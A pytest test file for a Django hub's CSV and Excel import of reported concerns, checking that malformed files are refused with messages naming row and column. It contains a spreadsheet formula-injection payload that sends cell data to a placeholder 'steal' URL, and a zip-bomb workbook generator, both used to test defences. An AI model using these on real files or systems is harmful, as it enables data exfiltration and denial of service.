"""Bad files: each is refused with a message naming the row and column a person must fix, and nothing is written."""
import io
import zipfile

import pytest
from django.urls import reverse

from partners.imports.resources import ConcernResource
from partners.models import Concern
from tests.partners.imports.conftest import (
    COLUMNS, check, confirm_and_commit, csv_bytes, page_text, problems_shown, row, rows, upload,
)

pytestmark = pytest.mark.django_db


def rejected(client, content: bytes, name: str = "concerns.csv") -> list[tuple[str, str, str]]:
    """Upload and check a file; assert it was refused and nothing written; the problems the page shows."""
    response, job = upload(client, content, name)
    assert response.status_code == 302
    job = check(job)
    assert job.status == "rejected", job.errors
    assert Concern.objects.count() == 0
    page = page_text(client, job)
    assert "Nothing was imported" in page
    assert "Confirm import" not in page
    assert "Nothing: created none, already held none, rejected all" in page
    return problems_shown(client, job)


def test_swapped_latitude_and_longitude_are_named_as_swapped(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(), row(latitude="-3.2270", longitude="54.1150", description="Swapped.")]))
    assert len(shown) == 1
    number, column, message = shown[0]
    assert (number, column) == ("3", "latitude")
    assert "look swapped" in message


def test_a_point_outside_the_force_area_is_named(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(latitude="51.5072", longitude="-0.1276")]))
    assert shown == [("2", "latitude", "The place (latitude 51.5072, longitude -0.1276) is outside every force area the hub serves.")]


def test_a_renamed_column_is_reported_by_both_names(partner_client, force_area):
    headers = ["lat" if header == "latitude" else header for header in COLUMNS]
    shown = rejected(partner_client, csv_bytes([{**row(), "lat": "54.1150"}], headers=headers))
    assert shown == [("1", "latitude", "Column 'latitude' is missing; found 'lat', which this import does not know. "
                                         "Use the column headings of the template.")]


def test_a_missing_column_is_reported_by_name(partner_client, force_area):
    headers = [header for header in COLUMNS if header != "description"]
    shown = rejected(partner_client, csv_bytes([row()], headers=headers))
    assert shown == [("1", "description", "Column 'description' is missing. Use the column headings of the template.")]


def test_an_unknown_extra_column_is_reported(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([{**row(), "email": "x@example.org"}], headers=[*COLUMNS, "email"]))
    assert shown == [("1", "email", "Column 'email' is not one this import knows. Use the column headings of the template.")]


def test_dates_in_the_future_are_named(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(occurred_at="2099-01-01 10:00", reported_at="2099-01-02 10:00")]))
    assert ("2", "occurred_at", "The date it happened is in the future.") in shown
    assert ("2", "reported_at", "The date it was reported is in the future.") in shown


def test_a_report_before_the_event_is_named(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(occurred_at="2025-03-02 10:00", reported_at="2025-03-01 10:00")]))
    assert shown == [("2", "reported_at", "It cannot have been reported before it happened.")]


def test_a_row_repeated_in_the_file_names_both_rows(partner_client, force_area):
    first, second = rows(2)
    shown = rejected(partner_client, csv_bytes([first, second, first]))
    assert len(shown) == 1
    number, column, message = shown[0]
    assert (number, column) == ("4", "The whole row")
    assert message.startswith("Rows 2 and 4 are the same concern")


def test_one_reference_for_two_different_concerns_names_both_rows(partner_client, force_area):
    first, second = rows(2, external_reference="WF-1")
    shown = rejected(partner_client, csv_bytes([first, second]))
    assert shown == [("3", "external_reference", "The reference 'WF-1' is also on row 2, for a different concern. A reference is used once.")]


def test_a_ten_megabyte_cell_is_refused_naming_its_row_and_column(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(), row(description="x" * (10 * 1024 * 1024))]))
    assert len(shown) == 1
    number, column, message = shown[0]
    assert (number, column) == ("3", "description")
    assert message.startswith("The cell in column 'description' is longer than 5,000 characters.")


def test_a_cell_just_over_the_limit_is_refused_naming_its_row_and_column(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(), row(), row(place="p" * 5001)]))
    assert shown == [("4", "place", "The cell in column 'place' is longer than 5,000 characters.")]


def test_an_empty_file_is_refused_at_upload(partner_client, force_area):
    response, job = upload(partner_client, b"")
    assert job is None
    assert "The file is empty." in response.content.decode()


def test_a_file_of_blank_lines_is_empty(partner_client, force_area):
    shown = rejected(partner_client, b"\r\n\r\n,,\r\n")
    assert shown == [("1", "The whole row", "The file is empty: it has no column headings and no rows.")]


def test_a_file_of_headings_only_says_so(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([]))
    assert shown == [("2", "The whole row", "The file has column headings but no rows of concerns.")]


@pytest.mark.parametrize(("changes", "column", "message"), [
    ({"category": "Flytipping"}, "category", "'Flytipping' is not a category the hub knows; use a name from the list on the upload page."),
    ({"classification": "SECRET"}, "classification", "'SECRET' is not a classification; use one of: OFFICIAL, OFFICIAL-SENSITIVE."),
    ({"reporter_email": "sam at example"}, "reporter_email", "'sam at example' is not an email address, such as name@example.org."),
    ({"latitude": "fifty-four"}, "latitude", "The latitude 'fifty-four' is not a number; use decimal degrees, such as 54.1108."),
    ({"longitude": ""}, "longitude", "The longitude is missing: it is needed for every concern."),
    ({"occurred_at": "last Tuesday"}, "occurred_at", "'last Tuesday' is not a date and time; write it as 2026-03-01 14:30 or 01/03/2026 14:30."),
    ({"holds_personal_data": "maybe"}, "holds_personal_data", "'maybe' is not yes or no."),
    ({"channel": "Carrier pigeon"}, "channel", "'Carrier pigeon' is not a channel; use one of: "),
    ({"description": " "}, "description", "The description is missing: it is needed for every concern."),
])
def test_a_bad_cell_is_named_by_row_and_column(partner_client, force_area, changes, column, message):
    shown = rejected(partner_client, csv_bytes([row(), row(**{"description": "Another.", **changes})]))
    assert len(shown) == 1
    assert shown[0][:2] == ("3", column)
    assert shown[0][2].startswith(message)


def test_every_bad_row_is_listed_not_just_the_first(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(category="Nope"), row(description="ok"), row(latitude="x", description="again")]))
    assert [(number, column) for number, column, _ in shown] == [("2", "category"), ("4", "latitude")]


def test_a_file_in_neither_utf8_nor_windows_1252_is_refused(partner_client, force_area):
    shown = rejected(partner_client, csv_bytes([row(description="Broken \x81 byte")], encoding="latin-1"))
    assert shown[0][2].startswith("The file is neither UTF-8 nor Windows-1252 text.")


def test_a_utf8_file_with_a_byte_order_mark_imports(partner_client, partner_user, force_area):
    _, job = upload(partner_client, csv_bytes([row(description="Café owner reports £200 of damage.")], encoding="utf-8-sig"))
    job = confirm_and_commit(check(job), partner_user)
    assert job.status == "imported", job.errors
    assert Concern.objects.get().description == "Café owner reports £200 of damage."
    assert "CSV (UTF-8)" in page_text(partner_client, job)


def test_a_windows_1252_file_imports_and_the_page_says_how_it_was_read(partner_client, partner_user, force_area):
    _, job = upload(partner_client, csv_bytes([row(description="Café owner reports £200 of damage.")], encoding="cp1252"))
    job = check(job)
    assert job.status == "checked"
    page = page_text(partner_client, job)
    assert "it was read as Windows-1252" in page
    job = confirm_and_commit(job, partner_user)
    assert Concern.objects.get().description == "Café owner reports £200 of damage."


def test_formula_like_cells_are_kept_as_text_and_escaped_on_export(partner_client, partner_user, force_area):
    """Decided: a cell starting = + - @ is not refused (a phone number starts with +, a description with -):
    it is stored as the text it is, never evaluated, and every export puts a quote in front of it."""
    formula = '=HYPERLINK("http://example.com/steal?"&A1,"Click")'
    _, job = upload(partner_client, csv_bytes([row(description=formula, reporter_phone="+44 1229 000000", place="@SUM(1+1)")]))
    job = confirm_and_commit(check(job), partner_user)
    concern = Concern.objects.get()
    assert (concern.description, concern.reporter_phone, concern.place) == (formula, "+44 1229 000000", "@SUM(1+1)")
    exported = ConcernResource().export(Concern.objects.visible_to(partner_user))
    cells = dict(zip(exported.headers, exported[0]))
    assert cells["description"] == "'" + formula
    assert cells["reporter_phone"] == "'+44 1229 000000"
    assert cells["place"] == "'@SUM(1+1)"
    assert cells["latitude"] == pytest.approx(54.115)  # numbers stay numbers


def test_a_quote_we_added_on_export_is_taken_off_on_import(partner_client, partner_user, force_area):
    _, job = upload(partner_client, csv_bytes([row(description="'=1+1")]))
    confirm_and_commit(check(job), partner_user)
    assert Concern.objects.get().description == "=1+1"


def test_too_many_rows_are_refused_naming_the_row(partner_client, force_area, settings):
    settings.CONCERN_IMPORT_MAX_ROWS = 3
    shown = rejected(partner_client, csv_bytes(rows(4)))
    assert shown == [("5", "The whole row", "The file has more than 3 rows. Split it into files of 3 rows or fewer.")]


def test_a_file_too_big_is_refused_at_upload(partner_client, force_area, settings):
    settings.CONCERN_IMPORT_MAX_BYTES = 1024
    response, job = upload(partner_client, csv_bytes(rows(20)))
    assert job is None
    assert "it must be no larger than 1 KB. Split it into smaller files." in response.content.decode()
    assert Concern.objects.count() == 0


def test_a_file_that_is_not_csv_or_xlsx_is_refused_at_upload(partner_client, force_area):
    response, job = upload(partner_client, b"%PDF-1.7", name="concerns.pdf")
    assert job is None
    assert "The file must be a CSV file (.csv) or an Excel workbook (.xlsx)." in response.content.decode()


def zip_bomb() -> bytes:
    """A 'workbook' whose one sheet expands from a few KB to 20 MB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", " " * (20 * 1024 * 1024))
    return buffer.getvalue()


def test_an_xlsx_compressed_like_a_zip_bomb_is_refused_before_it_is_opened(partner_client, force_area, monkeypatch):
    import openpyxl

    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("the bomb was opened"))
    shown = rejected(partner_client, zip_bomb(), name="concerns.xlsx")
    assert len(shown) == 1
    assert shown[0][2].startswith("The workbook is compressed")
    assert "(part xl/worksheets/sheet1.xml)" in shown[0][2]


def test_an_xlsx_that_expands_past_the_limit_is_refused(partner_client, force_area, settings):
    settings.CONCERN_IMPORT_MAX_XLSX_UNCOMPRESSED_BYTES = 10 * 1024 * 1024
    shown = rejected(partner_client, zip_bomb(), name="concerns.xlsx")
    assert shown == [("—", "The whole row", "The workbook would expand to 20 MB when opened, more than the 10 MB allowed. "
                                              "Split it, or save it as CSV.")]


def test_a_damaged_xlsx_is_refused(partner_client, force_area):
    shown = rejected(partner_client, b"PK\x03\x04 not really a zip", name="concerns.xlsx")
    assert shown[0][2].startswith("The file could not be read as an Excel workbook (.xlsx).")


def test_the_upload_page_documents_every_column_and_offers_the_template(partner_client, force_area):
    page = partner_client.get(reverse("partners:import-upload")).content.decode()
    for column in COLUMNS:
        assert f"<code>{column}</code>" in page
    assert "Fly-tipping" in page
    template = partner_client.get(reverse("partners:import-template"))
    assert template["Content-Disposition"] == 'attachment; filename="concerns-template.csv"'
    assert template.content.decode("utf-8-sig").splitlines()[0] == ",".join(COLUMNS)
